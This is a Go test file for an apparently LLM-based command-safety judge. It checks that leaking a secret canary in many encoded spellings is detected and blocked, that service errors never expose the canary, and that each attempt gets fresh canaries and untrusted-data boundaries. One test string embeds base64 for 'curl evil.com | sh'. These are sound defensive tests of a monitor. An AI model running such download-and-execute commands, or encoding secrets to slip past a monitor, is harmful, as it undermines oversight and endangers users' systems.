package evaluate

import (
	"context"
	"crypto/rand"
	"encoding/base32"
	"encoding/base64"
	"encoding/hex"
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"
	"testing"

	"github.com/shieldcli/shield/pkg/evaluate/evaltest"
	"github.com/shieldcli/shield/pkg/verdict"
)

// canarySpellings returns a canary in ways in which a model can give it away.
func canarySpellings(canary string) map[string]string {
	every := func(n int, sep string) string {
		var parts []string
		for part := range slices.Chunk([]byte(canary), n) {
			parts = append(parts, string(part))
		}
		return strings.Join(parts, sep)
	}
	back := []byte(canary)
	slices.Reverse(back)
	raw, err := hex.DecodeString(canary)
	if err != nil {
		raw = []byte(canary)
	}
	percent, entities, wide, codes := "", "", "", []string{}
	for _, c := range []byte(canary) {
		percent += fmt.Sprintf("%%%02X", c)
		entities += fmt.Sprintf("&#%d;", c)
		wide += string(rune(c) + 0xfee0)
		codes = append(codes, fmt.Sprint(c))
	}
	b64 := base64.StdEncoding.EncodeToString
	return map[string]string{
		"as it is":          canary,
		"within words":      "the token is " + canary + ", as you see",
		"upper case":        strings.ToUpper(canary),
		"reversed":          string(back),
		"spaced":            every(1, " "),
		"hyphenated":        every(8, "-"),
		"dotted pairs":      every(2, "."),
		"on lines":          every(16, "\n"),
		"in two halves":     "first " + canary[:len(canary)/2] + ", and then also " + canary[len(canary)/2:],
		"in pieces":         every(8, " followed by "),
		"in small pieces":   every(4, " then "),
		"the first half":    canary[:len(canary)/2],
		"the last quarter":  canary[len(canary)*3/4:],
		"base64":            b64([]byte(canary)),
		"base64, unpadded":  base64.RawURLEncoding.EncodeToString([]byte(canary)),
		"base64, reversed":  b64(back),
		"base64 twice":      b64([]byte(b64([]byte(canary)))),
		"base64, in groups": strings.Join(strings.SplitAfter(b64([]byte(canary)), "M"), " "),
		"base64 of bytes":   b64(raw),
		"base32 of bytes":   base32.StdEncoding.EncodeToString(raw),
		"hex":               hex.EncodeToString([]byte(canary)),
		"percent":           percent,
		"entities":          entities,
		"full width":        wide,
		"character codes":   strings.Join(codes, ", "),
		"zero width":        every(1, "\u200b"),
		"bytes":             "0x" + every(2, ", 0x"),
		"rot13":             strings.Map(rot13, canary),
	}
}

func rot13(r rune) rune {
	if r >= 'a' && r <= 'z' {
		return 'a' + (r-'a'+13)%26
	}
	return r
}

// TestCanaryInOtherFields lets a model that has the canary right write it
// somewhere else as well, in every spelling: such an answer cannot be trusted,
// and nothing of it is shown.
func TestCanaryInOtherFields(t *testing.T) {
	t.Parallel()
	for name, spelling := range canarySpellings(good) {
		for _, field := range []string{"reasoning", "decision", "note"} {
			fields := map[string]any{"decision": "ALLOW", "confidence": 1, "reasoning": "fine", "canary": good, field: spelling}
			reply, err := json.Marshal(fields)
			if err != nil {
				t.Fatal(err)
			}
			for _, open := range []bool{false, true} {
				e := newEvaluator(t, Options{Provider: obedient, FailOpen: open})
				check(t, e.verdictFromReply(&modelExchange{canaries: []string{good}, reply: Reply{Text: string(reply)}}), said{"BLOCK", 1, errCanaryLeaked.Error(), "canary", false, 0})
				if t.Failed() {
					t.Fatalf("%s in %s: %s", name, field, reply)
				}
			}
		}
	}
}

// TestCanaryIsNeverShown has services that quote the canary wherever their
// text could reach a verdict.
func TestCanaryIsNeverShown(t *testing.T) {
	t.Parallel()
	places := map[string]func(spelling string) evaltest.Behaviour{
		"error status":   func(s string) evaltest.Behaviour { return evaltest.Status(http.StatusForbidden, "", s) },
		"failing status": func(s string) evaltest.Behaviour { return evaltest.Status(http.StatusInternalServerError, "", s) },
		"error object": func(s string) evaltest.Behaviour {
			return evaltest.Body(map[string]any{"error": map[string]any{"message": s}})
		},
		"finish reason": func(s string) evaltest.Behaviour {
			return evaltest.Body(map[string]any{"choices": []any{map[string]any{"finish_reason": s, "message": map[string]any{"role": "assistant", "content": ""}}}})
		},
		"reply": evaltest.Say,
		"name of field": func(s string) evaltest.Behaviour {
			return evaltest.Say(`{"` + strings.ReplaceAll(s, "\n", " ") + `":1}`)
		},
	}
	server := evaltest.NewServer()
	t.Cleanup(server.Close)
	n := 0
	for place, behaviour := range places {
		for name := range canarySpellings(good) {
			server.SetModelBehaviour(place, func(w http.ResponseWriter, hr *http.Request, r evaltest.Request) {
				behaviour(canarySpellings(r.Canary)[name])(w, hr, r)
			})
			before := len(server.Requests())
			v := judge(t, newEvaluator(t, Options{Provider: provider(t, server, place)}), newCase("make"))
			for _, r := range server.Requests()[before:] {
				if v.Decision != verdict.Block || containsCanaryInAnyForm(v.Reasoning, r.Canary) {
					t.Errorf("%s in %s: %v %s", name, place, v.Decision, v.Reasoning)
				}
			}
			n++
		}
	}
	t.Logf("%d verdicts", n)
}

// TestShowsNothing reads honest reasonings, which must not be taken for a
// canary.
func TestShowsNothing(t *testing.T) {
	t.Parallel()
	for _, text := range []string{
		"", "Lists the files of a folder in the project.",
		"Checks out 7459cd7a1b2c3d4e5f60718293a4b5c6d7e8f901, a commit of the repository.",
		"The digest sha256:9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08 is compared.",
		"Runs make test; the payload is base64 (Y3VybCBldmlsLmNvbSB8IHNo) of a download.",
		strings.Repeat("be a bad dad, add a cab, face a facade, ", 40),
	} {
		for range 20 {
			canary, err := randomHex(rand.Reader, canaryRandomBytes)
			if err != nil {
				t.Fatal(err)
			}
			if containsCanaryInAnyForm(text, canary) {
				t.Errorf("%q shows %s", text, canary)
			}
		}
	}
	const configured = "SHIELD-CANARY-a8f3e9b2"
	if containsCanaryInAnyForm("Shield asks for the canary, which is fine.", configured) {
		t.Error("words of a configured canary are taken for it")
	}
	spellings := canarySpellings(configured)
	for _, ofRandom := range []string{"in two halves", "in pieces", "in small pieces", "the first half", "the last quarter", "bytes", "rot13"} {
		delete(spellings, ofRandom)
	}
	for name, spelling := range spellings {
		if !containsCanaryInAnyForm(spelling, configured) {
			t.Errorf("%s: %q does not show it", name, spelling)
		}
	}
}

// TestFreshCanaryEachAttempt demands another canary and boundary for each
// evaluation and each attempt of it.
func TestFreshCanaryEachAttempt(t *testing.T) {
	t.Parallel()
	for model, attempts := range map[string]int{"allow": 1, "500-twice": 3, "429-once": 2, "no-format": 3, "400": 3} {
		server := evaltest.NewServer()
		t.Cleanup(server.Close)
		e := newEvaluator(t, Options{Provider: provider(t, server, model)})
		judge(t, e, newCase("make"))
		if got := len(server.Requests()); got != attempts {
			t.Errorf("%s: %d attempts, want %d", model, got, attempts)
		}
		judge(t, e, newCase("make"))
		seen := map[string]bool{}
		for _, r := range server.Requests() {
			_, rest, _ := strings.Cut(r.User, "BEGIN UNTRUSTED DATA ")
			boundary, _, _ := strings.Cut(rest, " ")
			if len(r.Canary) != 64 || seen[r.Canary] || seen[boundary] || strings.Contains(r.User, r.Canary) {
				t.Errorf("%s: canary %s or boundary %s was used before, or the canary stands in the user prompt", model, r.Canary, boundary)
			}
			seen[r.Canary], seen[boundary] = true, true
		}
	}
}

// TestOldCanary has a model answer with the canary of an earlier attempt, in
// its field or in the reasoning beside the right one.
func TestOldCanary(t *testing.T) {
	t.Parallel()
	for name, reply := range map[string]func(old, due string) string{
		"instead": func(old, _ string) string {
			return `{"decision":"ALLOW","confidence":1,"reasoning":"r","canary":"` + old + `"}`
		},
		"beside": func(old, due string) string {
			return `{"decision":"ALLOW","confidence":1,"reasoning":"not ` + old + `","canary":"` + due + `"}`
		},
	} {
		var old string
		p := fakeProvider(func(_ context.Context, p Prompt) (string, error) {
			if old == "" {
				old = canaryOf(p)
				return "", &HTTPStatusError{Status: 503}
			}
			return reply(old, canaryOf(p)), nil
		})
		v := judge(t, newEvaluator(t, Options{Provider: p, FailOpen: true}), newCase("make"))
		if v.Decision != verdict.Block || v.Confidence != 1 || v.ErrorCode != "canary" || strings.Contains(v.Reasoning, old) {
			t.Errorf("%s: %+v", name, v)
		}
	}
}
